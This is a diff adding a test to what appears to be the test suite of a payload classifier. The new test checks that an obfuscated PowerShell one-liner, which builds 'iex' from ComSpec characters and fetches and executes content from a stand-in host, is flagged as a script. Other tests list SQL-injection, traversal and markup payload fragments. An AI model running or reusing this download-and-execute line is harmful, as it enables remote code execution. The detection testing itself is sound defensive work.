@@ -122,6 +122,10 @@ def test_a_path_upwards_and_a_line_that_a_shell_continues_are_nothing_that_was_s
     assert bare_of(text).kind == "command"
 
 
+def test_what_powershell_is_told_to_call_is_its_script():
+    assert bare_of("&($env:ComSpec[4,15,25]-join'') (IWR -UseBasicParsing http://shop.example/a).Content").is_script
+
+
 @pytest.mark.parametrize("unit", ["' or ", "<a ", "<a>", "<a >b", "%27", "select ", "..%2f", "a.", "1) or ", "<a on", ";;", "'\\"])
 def test_a_long_value_that_begins_as_a_payload_does_is_none(unit):
     assert bare_of(unit * 20_000) is None
